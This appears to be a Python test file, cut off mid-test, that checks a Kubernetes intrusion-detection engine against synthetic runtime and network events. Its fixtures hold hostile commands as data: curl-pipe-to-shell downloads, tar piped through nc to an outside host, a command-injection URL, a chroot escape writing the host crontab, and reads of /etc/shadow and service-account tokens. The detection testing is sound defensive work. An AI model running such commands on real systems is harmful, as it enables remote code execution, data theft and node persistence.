"""The rest of the old cascade's incident tests (``tests/report/test_heuristics.py``), asked of the
new engine (``case.findings()``) with the same export lines. Where the new engine's answer differs
on purpose (a lead where the old cascade accused a pod), the test's docstring says why."""

from __future__ import annotations

import json

import kernelsec_nb as kn
from tests.findings.test_cascade_cases import (
    CID,
    NODE,
    POD,
    SHIM,
    _alert,
    _alert_on,
    _case,
    _connect,
    _critical,
    _exec,
    _flow,
    _id,
    _in_pod,
    _lines,
    _proc,
    _put_sightings,
    _ref,
    _run,
    _sighting,
)


def _findings(tmp, lines: list[str]) -> kn.Findings:
    with _case(tmp, lines) as c:
        return c.findings()


def _incident_ids(f: kn.Findings) -> set[str]:
    """Every process an incident names: its chain, key command, entry and what it reached."""
    out: set[str] = set()
    for i in f.incidents:
        out |= set(i.chain) | {x for r in i.reached for x in r.exec_ids}
        out |= {i.key_command.exec_id} if i.key_command else set()
        out |= {i.entry.exec_id} if i.entry else set()
    return out


def _lead_ids(f: kn.Findings) -> set[str]:
    return {x for lead in f.leads for x in lead.exec_ids}


def _host(pid: int, parent: dict, binary: str, args: str, t: str) -> tuple[dict, str]:
    """A process on the node outside any pod (the host's)."""
    p = {k: v for k, v in _proc(pid, parent["pid"], binary, args, t, init=False).items() if k not in ("pod", "docker")}
    return p, json.dumps({"process_exec": {"process": p, "parent": parent}, "node_name": NODE, "time": t})


def _request_in(sport: int, url: str, t: str, node: str = NODE) -> str:
    flow = {"time": t, "verdict": "FORWARDED", "Type": "L7", "node_name": node, "is_reply": False,
            "traffic_direction": "INGRESS" if node == NODE else "EGRESS",
            "IP": {"source": "10.0.7.7", "destination": "10.0.2.7", "ipVersion": "IPv4"},
            "l4": {"TCP": {"source_port": sport, "destination_port": 8080}},
            "source": {"namespace": "ingress", "pod_name": "ingress-nginx-abcde", "labels": ["k8s:app=ingress"]},
            "destination": {"namespace": "shop", "pod_name": POD, "labels": ["k8s:app=api"]},
            "l7": {"type": "REQUEST", "http": {"method": "GET", "url": url}}}
    return json.dumps({"flow": flow, "node_name": node, "time": t})


def test_the_rce_incident_names_its_endpoints_by_role_and_the_service_it_came_through(tmp_path):
    with _case(tmp_path, _lines()) as c:
        f = c.findings()
        (i,) = f.incidents
        assert {e.ip for e in i.endpoints} >= {"203.0.113.9", "198.51.100.7"}
        assert i.entry is not None and "/usr/local/bin/python3" in c.ancestry(i.entry.exec_id)["binary"].to_list()
        assert i.techniques  # ATT&CK ids with the hits behind them


def test_dns_tunnelling_points_at_its_pod_as_a_lead(tmp_path):
    """Hubble alone: no process, so no key command and no incident (the old cascade named the pod as
    "attacker pod"); the tunnelling pod is the lead, the CDN's and the cluster's names are not."""
    def dns(pod: str, name: str, i: int) -> str:
        t = f"2026-03-01T10:00:{i % 60:02d}.{i:06d}Z"
        flow = {"time": t, "verdict": "FORWARDED", "Type": "L7", "node_name": NODE, "is_reply": False,
                "IP": {"source": "10.0.2.8", "destination": "10.0.0.10", "ipVersion": "IPv4"},
                "l4": {"UDP": {"source_port": 50000 + i, "destination_port": 53}},
                "source": {"namespace": "finance", "pod_name": pod, "labels": ["k8s:app=x"]},
                "destination": {"namespace": "kube-system", "pod_name": "coredns-5d78c9869d-abcde"},
                "l7": {"type": "REQUEST", "dns": {"query": name, "qtypes": ["TXT"]}},
                "traffic_direction": "EGRESS"}
        return json.dumps({"flow": flow, "node_name": f"prod/{NODE}", "time": t})

    lines = [dns("reporting-7f8d9c6b5-zz9xq", f"{i:032x}.x.exfil.example.net.", i) for i in range(60)]
    lines += [dns("shop-5f6d7c8b9-abcde", f"{i % 12:032x}.cloudfront.net.", 200 + i) for i in range(120)]
    lines += [dns("shop-5f6d7c8b9-abcde", f"payments-processor-v{i}.finance.svc.cluster.local.", 400 + i)
              for i in range(60)]
    lines += [dns("web-5f6d7c8b9-abcde", "api.finance.svc.cluster.local.", 100 + i) for i in range(40)]
    f = _findings(tmp_path, lines)
    assert f.incidents == []
    assert [(x.pod, x.node) for x in f.leads] == [("reporting-7f8d9c6b5-zz9xq", NODE)]
    assert any("example.net" in w for w in f.leads[0].why + [f.leads[0].why_not])


def test_a_busy_benign_cluster_is_no_incident(tmp_path):
    runner, a = _run(10, {"exec_id": _id(1), "pid": 1}, "/usr/bin/gitlab-runner", "run", "2026-03-01T08:00:00Z", init=True)
    lines = [a]
    pid = 100
    for i in range(2):
        step, x = _run(pid, _ref(runner), "/bin/sh", "-c 'go test ./...'", f"2026-03-01T09:0{i}:00Z", init=True)
        go, y = _run(pid + 1, _ref(step), "/usr/local/go/bin/go", "test ./...", f"2026-03-01T09:0{i}:01Z", init=True)
        _, z = _run(pid + 2, _ref(go), f"/tmp/go-build{i}/b001/api.test", "-test.v", f"2026-03-01T09:0{i}:05Z", init=True)
        lines += [x, y, z, _alert(pid + 2, "Drop and execute new binary in container", f"2026-03-01T09:0{i}:05.1Z")]
        pid += 10
    release, x = _run(200, _ref(runner), "/bin/sh", "-c 'cargo build --release && ./upload.sh'", "2026-03-01T09:30:00Z", init=True)
    cargo, y = _run(201, _ref(release), "/usr/local/cargo/bin/cargo", "build --release", "2026-03-01T09:30:01Z", init=True)
    _, z = _run(202, _ref(cargo), "/tmp/cargo-target/release/build/x/build-script-build", "", "2026-03-01T09:30:05Z", init=True)
    upload, w = _run(203, _ref(release), "/usr/bin/curl", "--upload-file app https://artifacts.example/up",
                     "2026-03-01T09:31:00Z", init=True)
    lines += [x, y, z, w, _alert(201, "Launch Package Management Process in Container", "2026-03-01T09:30:01.1Z"),
              _alert(202, "Drop and execute new binary in container", "2026-03-01T09:30:05.1Z"),
              _connect(upload, _ref(release), 43000, "52.216.44.10", 443, "2026-03-01T09:31:00.1Z"),
              _sighting(43000, "52.216.44.10", 443, "FORWARDED", "2026-03-01T09:31:00.101Z")]
    backup, x = _run(300, {"exec_id": _id(299), "pid": 299}, "/usr/bin/python3", "/opt/backup/run.py", "2026-03-01T08:30:00Z", init=True)
    lines.append(x)
    for i in range(2):
        restic, y = _run(301 + i, _ref(backup), "/tmp/restic", "backup /data", f"2026-03-01T0{8 + i}:30:05Z", init=True)
        lines += [y, _connect(restic, _ref(backup), 44000 + i, "52.217.1.1", 443, f"2026-03-01T0{8 + i}:30:06Z")]
    sh, x = _run(400, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
    _, y = _run(401, _ref(sh), "/bin/kill", "-HUP 1", "2026-03-01T10:00:05Z")
    bash, z = _run(410, SHIM, "/bin/bash", "", "2026-03-01T10:10:00Z")
    psql, w = _run(411, _ref(bash), "/usr/bin/psql", "-h postgres orders", "2026-03-01T10:10:05Z")
    gomod, v = _run(412, _ref(bash), "/usr/local/go/bin/go", "mod download", "2026-03-01T10:12:00Z")
    lines += [x, y, z, w, v, _alert(400, "Terminal shell in container", "2026-03-01T10:00:00.1Z"),
              _connect(psql, _ref(bash), 45000, "10.0.5.5", 5432, "2026-03-01T10:10:05.1Z"),
              _sighting(45000, "10.0.5.5", 5432, "FORWARDED", "2026-03-01T10:10:05.101Z", dst_pod="postgres-0"),
              _connect(gomod, _ref(bash), 45001, "142.250.1.1", 443, "2026-03-01T10:12:00.1Z"),
              _sighting(45001, "142.250.1.1", 443, "FORWARDED", "2026-03-01T10:12:00.101Z")]
    worker, x = _run(500, {"exec_id": _id(499), "pid": 499}, "/usr/bin/supervisord", "-n", "2026-03-01T08:00:00Z", init=True)
    reco, y = _run(501, _ref(worker), "/usr/local/bin/recommender", "--upstream inventory", "2026-03-01T08:05:00Z", init=True)
    lines += [x, y] + [line for i in range(5) for line in (
        _connect(reco, _ref(worker), 46000 + i, "10.0.6.6", 8080, f"2026-03-01T08:1{i}:00Z"),
        _sighting(46000 + i, "10.0.6.6", 8080, "DROPPED", f"2026-03-01T08:1{i}:00.001Z", dst_pod="inventory-0"))]
    f = _findings(tmp_path, lines)
    assert f.incidents == [], [(i.pod, i.key_command) for i in f.incidents]


def test_a_one_shot_that_got_through_outranks_its_refused_retry(tmp_path):
    lines = []
    for i, (verdict, t) in enumerate((("FORWARDED", "10:10"), ("DROPPED", "10:16"))):
        pid = 60 + 10 * i
        sh, a = _run(pid, SHIM, "/bin/sh", "-c 'curl -s -X PUT http://db/x'", f"2026-03-01T{t}:00Z")
        curl, b = _run(pid + 1, _ref(sh), "/usr/bin/curl", "-s -X PUT http://db/x", f"2026-03-01T{t}:00.1Z")
        lines += [a, b, _connect(curl, _ref(sh), 41000 + i, "10.0.5.5", 80, f"2026-03-01T{t}:00.2Z"),
                  _sighting(41000 + i, "10.0.5.5", 80, verdict, f"2026-03-01T{t}:00.201Z", dst_pod="db-0", method="PUT")]
    f = _findings(tmp_path, lines)
    named = [(i.entry.exec_id if i.entry else None, i.key_command.exec_id if i.key_command else None)
             for i in f.incidents]
    if named:
        assert named[0] == (_id(60), _id(61))
    else:  # one kind of act and no detection: a lead, the one that got through first
        assert f.leads and _id(61) in f.leads[0].exec_ids


def test_in_old_exports_a_shell_exec_d_into_a_quiet_container_is_found(tmp_path):
    """No ``in_init_tree``: the exec'd shell and its PUT are still named (as the key command, or —
    one kind of act, no detection — as a lead's process, like the same shell in a new export)."""
    def old(line: str) -> str:
        ev = json.loads(line)
        ev["process_exec"]["process"].pop("in_init_tree")
        return json.dumps(ev)

    sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
    curl, b = _run(51, _ref(sh), "/usr/bin/curl", "-X PUT http://db/x", "2026-03-01T10:00:01Z")
    f = _findings(tmp_path, [old(a), old(b), _connect(curl, _ref(sh), 41001, "10.0.5.5", 80, "2026-03-01T10:00:01.1Z"),
                             *_put_sightings(41001, "2026-03-01T10:00:01.101Z")])
    keys = [(i.key_command.binary, i.key_command.args) for i in f.incidents if i.key_command]
    assert keys == [("/usr/bin/curl", "-X PUT http://db/x")] or (not keys and _id(51) in _lead_ids(f))


def test_an_escape_through_mount_and_chroot_to_cron_is_an_incident_without_falco(tmp_path):
    """The old cascade's key command was the ``chroot``; the new engine's is the ``tee`` that wrote
    the host's crontab through it (the act that did the damage: persistence on the node), with the
    ``chroot`` on the chain — the answer the issue asks for ("the command that did the damage")."""
    bash, a = _run(50, SHIM, "/bin/bash", "", "2026-03-01T10:00:00Z")
    _, b = _run(51, _ref(bash), "/bin/mount", "/dev/nvme0n1p1 /mnt", "2026-03-01T10:00:01Z")
    chroot, c = _run(52, _ref(bash), "/usr/sbin/chroot", "/mnt /bin/bash", "2026-03-01T10:00:02Z")
    host, d = _run(53, _ref(chroot), "/bin/bash", "", "2026-03-01T10:00:02.5Z")
    tee, e = _run(54, _ref(host), "/usr/bin/tee", "-a /etc/crontab", "2026-03-01T10:00:03Z")
    cron = json.dumps({"process_kprobe": {"process": tee, "parent": _ref(host), "function_name": "security_file_open",
                                          "args": [{"file_arg": {"path": "/etc/crontab"}}]},
                       "node_name": NODE, "time": "2026-03-01T10:00:03.1Z"})
    f = _findings(tmp_path, [a, b, c, d, e, cron])
    (i,) = f.incidents
    assert (i.pod, i.node) == (POD, NODE) and i.entry is not None and i.entry.exec_id == _id(50)
    assert i.key_command is not None and (i.key_command.binary, i.key_command.args) == ("/usr/bin/tee", "-a /etc/crontab")
    assert i.chain == [_id(50), _id(52), _id(53), _id(54)]  # the chroot on the way


def test_what_an_escape_left_running_on_the_host_is_reached(tmp_path):
    bash, a = _run(50, SHIM, "/bin/bash", "", "2026-03-01T10:00:00Z")
    _, b = _run(52, _ref(bash), "/usr/sbin/chroot", "/host /bin/bash", "2026-03-01T10:00:02Z")
    cron = {"exec_id": _id(5), "pid": 5, "binary": "/usr/sbin/cron", "arguments": "-f"}
    _, c = _host(40, cron, "/tmp/.early", "", "2026-03-01T09:00:00Z")  # before the escape
    sh, d = _host(60, cron, "/bin/sh", "-c 'curl -s http://203.0.113.9/p | sh'", "2026-03-01T10:05:00Z")
    payload, e = _host(62, _ref(sh), "/tmp/.p", "", "2026-03-01T10:05:01Z")
    _, g = _host(63, cron, "/usr/sbin/logrotate", "/etc/logrotate.conf", "2026-03-01T10:06:00Z")  # routine
    f = _findings(tmp_path, [a, b, c, d, e, g, _connect(payload, _ref(sh), 41002, "203.0.113.9", 4444,
                                                         "2026-03-01T10:05:02Z")])
    assert f.incidents and f.incidents[0].pod == POD
    i = f.incidents[0]
    host = [r for r in i.reached if r.pod is None and r.node == NODE]
    assert host and _id(62) in host[0].exec_ids, i.reached
    assert not {_id(40), _id(63)} & _incident_ids(f)
    assert "203.0.113.9" in {e.ip for e in i.endpoints}


def test_what_a_nodes_agents_start_is_nothing_an_escape_reached(tmp_path):
    bash, a = _run(50, SHIM, "/bin/bash", "", "2026-03-01T10:00:00Z")
    _, b = _run(52, _ref(bash), "/usr/sbin/chroot", "/host /bin/bash", "2026-03-01T10:00:02Z")
    kubelet = {"exec_id": _id(3), "pid": 3, "binary": "/usr/bin/kubelet", "arguments": "--config /var/lib/kubelet"}
    _, c = _host(60, kubelet, "/usr/bin/mount", "-t tmpfs tmpfs /var/lib/kubelet/pods/x/volumes/kube-api-access",
                 "2026-03-01T10:01:00Z")
    f = _findings(tmp_path, [a, b, c])
    assert _id(60) not in _incident_ids(f)


def test_a_host_command_every_node_runs_is_nothing_an_escape_reached(tmp_path):
    bash, a = _run(50, SHIM, "/bin/bash", "", "2026-03-01T10:00:00Z")
    _, b = _run(52, _ref(bash), "/usr/sbin/chroot", "/host /bin/bash", "2026-03-01T10:00:02Z")
    cron = {"exec_id": _id(5), "pid": 5, "binary": "/usr/sbin/cron", "arguments": "-f"}
    lines = [a, b]
    for i, (node, t) in enumerate([("worker-7", "2026-03-01T09:00:00Z"), (NODE, "2026-03-01T11:00:00Z")]):
        job, line = _host(70 + i, cron, "/usr/sbin/cron", "-f", t)
        ev = json.loads(line)
        ev["node_name"] = node
        hook = {"process_kprobe": {"process": job, "parent": cron, "function_name": "security_file_open",
                                   "args": [{"file_arg": {"path": "/etc/shadow"}}]}, "node_name": node, "time": t}
        lines += [json.dumps(ev), json.dumps(hook)]
    f = _findings(tmp_path, lines)
    assert not {_id(70), _id(71)} & _incident_ids(f)


def test_a_kubectl_cp_delivery_is_part_of_the_incident(tmp_path):
    tar, a = _run(50, SHIM, "/bin/tar", "xf - -C /tmp", "2026-03-01T10:00:00Z")
    wrote = json.dumps({"process_kprobe": {"process": tar, "parent": SHIM, "function_name": "security_file_open",
                                           "args": [{"file_arg": {"path": "/tmp/tool"}}]},
                        "node_name": NODE, "time": "2026-03-01T10:00:00.5Z"})
    tool, b = _run(60, SHIM, "/tmp/tool", "--scan 10.0.0.0/24", "2026-03-01T10:01:00Z")
    f = _findings(tmp_path, [a, wrote, b, _connect(tool, SHIM, 41001, "203.0.113.5", 443, "2026-03-01T10:01:01Z")])
    (i,) = f.incidents
    assert i.key_command is not None and (i.key_command.binary, i.key_command.args) == ("/tmp/tool", "--scan 10.0.0.0/24")
    assert i.entry is not None and i.entry.exec_id == _id(50)  # the file written, then run
    assert i.chain == [_id(50), _id(60)]


def test_a_quiet_probe_in_the_same_pod_before_the_incident_is_named(tmp_path):
    server = {"exec_id": _id(10), "pid": 10, "binary": "/usr/local/bin/python3", "arguments": "app.py"}
    probe = _exec(25, server, "/bin/sh", "-c 'curl -s x;id'", "2026-03-01T09:59:00Z")
    f = _findings(tmp_path, [probe, _alert_on(25, "Run shell untrusted", "Notice", "2026-03-01T09:59:00.1Z"), *_lines()])
    assert f.incidents[0].entry is not None and f.incidents[0].entry.exec_id == _id(20)
    assert _id(25) in _incident_ids(f) | _lead_ids(f)


def test_the_request_that_carried_an_injected_command_is_the_entrys_trigger(tmp_path):
    exploit = "http://shop/api/preview?url=x%3Bcurl%20http%3A%2F%2F203.0.113.9%2Fx%7Csh"
    with _case(tmp_path, [*_lines(),
                          _request_in(50001, "http://shop/api/items", "2026-03-01T09:59:50Z"),  # too early
                          _request_in(50002, exploit, "2026-03-01T09:59:59.9Z", node="worker-1"),  # other node
                          _request_in(50002, exploit, "2026-03-01T09:59:59.998Z")]) as c:
        f = c.findings()
        assert c.flows(http_url="203.0.113.9").height == 2 and c.flows(http_path="203.0.113.9").is_empty()
    (i,) = f.incidents
    assert i.entry is not None and i.entry.trigger is not None
    assert exploit in i.entry.trigger and "/api/items" not in i.entry.trigger
    assert "T1190" in i.techniques


def test_a_source_missing_on_the_incidents_node_is_said(tmp_path):
    other = json.loads(_exec(90, {"exec_id": _id(1), "pid": 1}, "/bin/true", "", "2026-03-01T09:00:00Z"))
    other["node_name"] = "worker-9"
    elsewhere = json.loads(_alert_on(90, "Launch Package Management Process in Container", "Error",
                                     "2026-03-01T09:00:00.1Z")) | {"hostname": "worker-9"}
    lines = [line for line in _lines() if '"hostname"' not in line]
    f = _findings(tmp_path, [*lines, json.dumps(other), json.dumps(elsewhere)])
    assert f.incidents and f.incidents[0].node == NODE
    assert any(n.startswith(f"no Falco alerts from {NODE} in the capture, though 1 other node(s) have them")
               for n in f.notes), f.notes
    # the alerts' host names are no node Tetragon knows: nothing to say
    elsewhere["hostname"] = "falco-7x2kq"
    (tmp_path / "b").mkdir()
    f = _findings(tmp_path / "b", [*lines, json.dumps(elsewhere)])
    assert not any("no Falco alerts" in n for n in f.notes)


def test_without_processes_a_scraper_retrying_one_refused_target_ranks_below_a_critical_alert(tmp_path):
    """No process events: leads only (the old cascade called the alerted pod "attacker pod")."""
    scraper = []
    for i in range(60):
        line = json.loads(_flow(45000 + i, "10.0.9.9", 9100, "DROPPED", f"2026-03-01T09:{i:02d}:00Z"))
        line["flow"]["source"] = {"namespace": "monitoring", "pod_name": "prometheus-0", "labels": ["k8s:app=prom"]}
        scraper.append(json.dumps(line))
    alert = json.dumps({"hostname": NODE, "output": "Drop and execute new binary", "priority": "Critical",
                        "rule": "Drop and execute new binary in container", "source": "syscall", "tags": [],
                        "time": "2026-03-01T10:00:02Z",
                        "output_fields": {"container.id": CID[:12], "proc.pid": 30, "proc.exepath": "/tmp/.x",
                                          "k8s.pod.name": POD, "k8s.ns.name": "shop"}})
    f = _findings(tmp_path, [*scraper, alert, _flow(39001, "198.51.100.7", 4444, "FORWARDED", "2026-03-01T10:00:03Z")])
    assert f.incidents == []
    assert f.leads and f.leads[0].pod == POD, [(x.pod, x.score) for x in f.leads]


def test_a_pod_created_through_the_api_by_an_exec_d_shell_elsewhere_is_named_with_its_origin(tmp_path):
    """The old cascade named debug-new as "attacker pod" with the curl in the other pod as its
    origin. The new engine raises both: debug-new's escape first, and the exec'd shell whose curl
    to the API server created it, its key command saying so; the operator's API calls are neither."""
    bash, a = _run(50, SHIM, "/bin/bash", "", "2026-03-01T10:00:00Z")
    curl, b = _run(51, _ref(bash), "/usr/bin/curl", "-k -X POST https://10.96.0.1:6443/api/v1/namespaces/x/pods",
                   "2026-03-01T10:00:10Z")
    operator, c = _run(60, SHIM, "/manager", "--leader-elect", "2026-03-01T09:00:00Z", init=True)
    c = _in_pod(c, "operator-0", "c")
    op_call = json.loads(_connect(operator, SHIM, 41500, "10.96.0.1", 6443, "2026-03-01T10:00:11Z"))
    op_call["process_kprobe"]["process"]["pod"]["name"] = "operator-0"
    main, d = _run(70, SHIM, "/bin/sleep", "infinity", "2026-03-01T10:00:12Z", init=True)
    shell, e = _run(71, SHIM, "/bin/sh", "", "2026-03-01T10:00:20Z")
    _, g = _run(72, _ref(shell), "/usr/sbin/chroot", "/host /bin/sh", "2026-03-01T10:00:21Z")
    payload, h = _run(73, _ref(shell), "/tmp/.p", "", "2026-03-01T10:00:30Z")
    out = json.loads(_connect(payload, _ref(shell), 41600, "203.0.113.9", 4444, "2026-03-01T10:00:31Z"))
    out["process_kprobe"]["process"]["pod"]["name"] = "debug-new"
    new = [_in_pod(x, "debug-new", "d") for x in (d, e, g, h)]
    f = _findings(tmp_path, [a, b, _connect(curl, _ref(bash), 41000, "10.96.0.1", 6443, "2026-03-01T10:00:10.5Z"),
                             c, json.dumps(op_call), *new, json.dumps(out)])
    assert f.incidents[0].pod == "debug-new"
    origin = [i for i in f.incidents if i.key_command and i.key_command.exec_id == _id(51)]
    assert origin and origin[0].pod == POD and "shop/debug-new" in origin[0].key_command.why
    assert "operator-0" not in {i.pod for i in f.incidents} | {x.pod for x in f.leads}
    assert _id(60) not in _incident_ids(f)


def test_without_an_l7_flow_the_request_whose_arguments_send_data_is_key(tmp_path):
    bash, a = _run(50, SHIM, "/bin/bash", "", "2026-03-01T10:00:00Z")
    post, b = _run(51, _ref(bash), "/usr/bin/curl", "-k -X POST https://10.96.0.1/api/v1/namespaces/x/pods -d @p.json",
                   "2026-03-01T10:00:10Z")
    get, c = _run(52, _ref(bash), "/usr/bin/curl", "-k https://10.96.0.1/api/v1/namespaces/x/pods/p",
                  "2026-03-01T10:00:20Z")
    lines = [a, b, c, _connect(post, _ref(bash), 41000, "10.96.0.1", 443, "2026-03-01T10:00:10.5Z"),
             _connect(get, _ref(bash), 41001, "10.96.0.1", 443, "2026-03-01T10:00:20.5Z"),
             _alert_on(51, "Contact K8S API Server From Container", "Warning", "2026-03-01T10:00:10.6Z"),
             _alert_on(52, "Contact K8S API Server From Container", "Warning", "2026-03-01T10:00:20.6Z")]
    f = _findings(tmp_path, lines)
    keys = [i.key_command.exec_id for i in f.incidents if i.key_command]
    assert keys == [_id(51)] or (not keys and f.leads and _id(51) in f.leads[0].exec_ids)


def test_a_shell_sshd_started_is_a_login_and_the_connection_it_came_over_is_its_trigger(tmp_path):
    """The old cascade's key command was the ``nc`` (the exfiltration) in the pod sshd ran in. The
    new engine follows the ssh connection back: the incident enters at the ``ssh`` client in the other
    pod, its key command is that login (the act that made this pod act), and this pod — with the
    ``nc`` and its destination — is what it reached."""
    sshd, a = _run(10, SHIM, "/usr/sbin/sshd", "-D -e", "2026-03-01T08:00:00Z", init=True)
    bash, b = _run(20, _ref(sshd), "/bin/bash", "-c 'tar czf - /data | nc 203.0.113.77 9001'", "2026-03-01T10:00:01Z",
                   init=True)
    nc, c = _run(22, _ref(bash), "/usr/bin/nc", "203.0.113.77 9001", "2026-03-01T10:00:01.1Z", init=True)
    client = json.loads(_run(90, SHIM, "/usr/bin/ssh", "-i /tmp/k user@10.0.2.7", "2026-03-01T10:00:00Z")[1])
    client["node_name"] = "worker-5"
    client["process_exec"]["process"]["pod"] = {"namespace": "analytics", "name": "report-worker-x",
                                                "container": {"id": "containerd://" + "e" * 64}}
    connect = json.loads(_connect(client["process_exec"]["process"], SHIM, 50100, "10.0.2.7", 22, "2026-03-01T10:00:00.2Z"))
    connect["node_name"] = "worker-5"
    connect["process_kprobe"]["args"][0]["sock_arg"]["saddr"] = "10.0.5.9"
    flow = json.loads(_sighting(50100, "10.0.2.7", 22, "FORWARDED", "2026-03-01T10:00:00.201Z", dst_pod=POD))
    flow["flow"]["IP"]["source"] = "10.0.5.9"
    flow["flow"]["source"] = {"namespace": "analytics", "pod_name": "report-worker-x", "labels": ["k8s:app=rw"]}
    flow["flow"]["destination"]["namespace"] = "shop"
    f = _findings(tmp_path, [a, b, c, _connect(nc, _ref(bash), 41000, "203.0.113.77", 9001, "2026-03-01T10:00:01.2Z"),
                             json.dumps(client), json.dumps(connect), json.dumps(flow)])
    (i,) = f.incidents
    assert i.key_command is not None and (i.key_command.binary, i.key_command.args) == (
        "/usr/bin/ssh", "-i /tmp/k user@10.0.2.7")
    assert _id(22) in _incident_ids(f)  # the nc
    pods = {(i.namespace, i.pod)} | {(r.namespace, r.pod) for r in i.reached}
    assert {("shop", POD), ("analytics", "report-worker-x")} <= pods, (i.pod, i.reached)
    assert _id(90) in _incident_ids(f)  # the ssh client that came in
    assert "203.0.113.77" in {e.ip for e in i.endpoints}


def test_a_reload_is_no_kill_when_something_else_stops_by_another_signal(tmp_path):
    sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
    _, b = _run(51, _ref(sh), "/bin/kill", "-HUP 1", "2026-03-01T10:00:05Z")
    tail, c = _run(60, SHIM, "/usr/bin/tail", "-f /var/log/app.log", "2026-03-01T09:59:00Z")
    stop = json.dumps({"process_exit": {"process": tail, "parent": SHIM, "signal": "SIGINT"},
                       "node_name": NODE, "time": "2026-03-01T10:00:07Z"})
    f = _findings(tmp_path, [a, b, c, stop])
    assert f.incidents == []
    assert not any("kill" in w for x in f.leads for w in x.why)


def test_ci_job_pods_run_through_exec_are_no_incident(tmp_path):
    lines: list[str] = []
    for i, job in enumerate(("a1cywgsx", "dciy1a2a")):
        pid, t = 100 + 20 * i, f"2026-03-01T1{i}:00"
        cid = "abcdef"[i] * 64
        sh, a = _run(pid, SHIM, "/busybox/sh", "", f"{t}:00Z")
        kaniko, b = _run(pid + 1, _ref(sh), "/kaniko/executor", "--context dir:///builds --destination reg.example.com/x",
                         f"{t}:01Z")
        apt, c = _run(pid + 2, _ref(kaniko), "/usr/bin/apt-get", "update", f"{t}:02Z")
        npm, d = _run(pid + 3, _ref(sh), "/usr/local/bin/node", "/usr/local/bin/npm ci --omit=dev", f"{t}:10Z")
        go, e = _run(pid + 4, _ref(sh), "/usr/local/go/bin/go", f"build -o /tmp/build-88{i}/app ./cmd/app", f"{t}:20Z")
        _, g = _run(pid + 5, _ref(sh), f"/tmp/build-88{i}/app", "selftest", f"{t}:30Z")
        pod_lines = [a, b, c, d, e, g,
                     _connect(kaniko, _ref(sh), 44000 + i, "52.1.2.3", 443, f"{t}:01.5Z"),
                     _connect(npm, _ref(sh), 44100 + i, "104.16.1.1", 443, f"{t}:10.5Z")]
        lines += [_in_pod(x, f"runner-project-4217-concurrent-0-{job}", cid[0]) if '"process_exec"' in x else x
                  for x in pod_lines]
        alert = json.loads(_alert_on(pid + 2, "Launch Package Management Process in Container", "Error", f"{t}:02.1Z"))
        alert["output_fields"] |= {"container.id": cid[:12], "k8s.pod.name": f"runner-project-4217-concurrent-0-{job}"}
        lines.append(json.dumps(alert))
    f = _findings(tmp_path, lines)
    assert f.incidents == [], [(i.pod, i.key_command) for i in f.incidents]


def test_a_program_a_service_runs_all_day_from_tmp_is_routine_whatever_its_flags(tmp_path):
    server = {"exec_id": _id(10), "pid": 10, "binary": "/usr/local/bin/node", "arguments": "server.js"}
    lines = []
    for i in range(8):
        flags = "--quiet --enable-local-file-access" if i == 5 else "--quiet"
        p, line = _run(200 + i, server, "/tmp/wkhtmltox/bin/wkhtmltopdf", f"{flags} /tmp/in-{i}.html /tmp/out-{i}.pdf",
                       f"2026-03-01T10:0{i}:00Z", init=True)
        lines += [line, _connect(p, server, 45000 + i, "142.250.74.3", 443, f"2026-03-01T10:0{i}:01Z")]
    f = _findings(tmp_path, lines)
    assert f.incidents == [], [(i.pod, i.key_command) for i in f.incidents]


def test_a_program_the_entrypoint_of_a_rollouts_new_pods_starts_is_a_lead(tmp_path):
    lines: list[str] = []
    for i, (pod, cid, poisoned) in enumerate([("shop-api-old-aaaaa", "a", False), ("shop-api-new-bbbbb", "b", True),
                                              ("shop-api-new-ccccc", "c", True)]):
        pid, t = 300 + 10 * i, f"2026-03-01T10:0{i}:00"
        entry, a = _run(pid, SHIM, "/bin/sh", "/usr/local/bin/entry.sh", f"{t}Z", init=True)
        _, b = _run(pid + 1, _ref(entry), "/usr/local/bin/worker", "--queue jobs", f"{t}.1Z", init=True)
        lines += [_in_pod(a, pod, cid), _in_pod(b, pod, cid)]
        if poisoned:
            upd, c = _run(pid + 2, _ref(entry), "/usr/lib/.cache/updater", "", f"{t}.2Z", init=True)
            hook = {"process_kprobe": {
                "process": upd, "parent": _ref(entry), "function_name": "security_file_open",
                "args": [{"file_arg": {"path": "/var/run/secrets/kubernetes.io/serviceaccount/token"}}]},
                "node_name": NODE, "time": f"{t}.3Z"}
            hook["process_kprobe"]["process"]["pod"] = {**upd["pod"], "name": pod,
                                                        "container": {"id": "containerd://" + cid * 64, "name": "api"}}
            alert = json.loads(_alert_on(pid + 2, "Read sensitive file untrusted", "Warning", f"{t}.3Z"))
            alert["output_fields"] |= {"container.id": (cid * 12), "k8s.pod.name": pod}
            lines += [_in_pod(c, pod, cid), json.dumps(hook), json.dumps(alert)]
    f = _findings(tmp_path, lines)
    assert f.incidents == []
    assert {_id(312), _id(322)} & _lead_ids(f), [(x.pod, x.exec_ids) for x in f.leads]


def test_a_kernel_started_by_a_request_and_running_a_shell_later_names_that_request(tmp_path):
    server = {"exec_id": _id(10), "pid": 10, "binary": "/usr/bin/python3", "arguments": "-m jupyter lab"}
    kernel, a = _run(20, server, "/usr/bin/python3", "-m ipykernel_launcher -f kernel-1.json",
                     "2026-03-01T10:00:00.05Z", init=True)
    sh, b = _run(21, _ref(kernel), "/bin/sh", "-c 'curl -sL http://198.51.100.23/x.sh | sh'",
                 "2026-03-01T10:00:40Z", init=True)
    miner, c = _run(22, _ref(sh), "/dev/shm/.kswapd", "-o pool.example:4444", "2026-03-01T10:00:41Z", init=True)
    post = json.loads(_request_in(50001, "http://jupyter/api/kernels", "2026-03-01T10:00:00Z"))
    post["flow"]["l7"]["http"]["method"] = "POST"
    f = _findings(tmp_path, [a, b, c, _connect(miner, _ref(sh), 41000, "203.0.113.50", 4444, "2026-03-01T10:00:42Z"),
                             _alert_on(22, "Drop and execute new binary in container", "Critical", "2026-03-01T10:00:41.1Z"),
                             json.dumps(post)])
    (i,) = f.incidents
    assert i.key_command is not None and i.key_command.exec_id == _id(22)
    assert i.entry is not None and i.entry.trigger is not None and "POST http://jupyter/api/kernels" in i.entry.trigger


def test_a_service_shell_that_only_writes_a_crontab_is_named_beside_the_incident(tmp_path):
    server = {"exec_id": _id(10), "pid": 10, "binary": "/usr/bin/python3", "arguments": "-m ipykernel_launcher"}
    sh, a = _run(21, server, "/bin/sh", "-c 'curl -sL http://198.51.100.23/x.sh | sh'", "2026-03-01T10:00:40Z",
                 init=True)
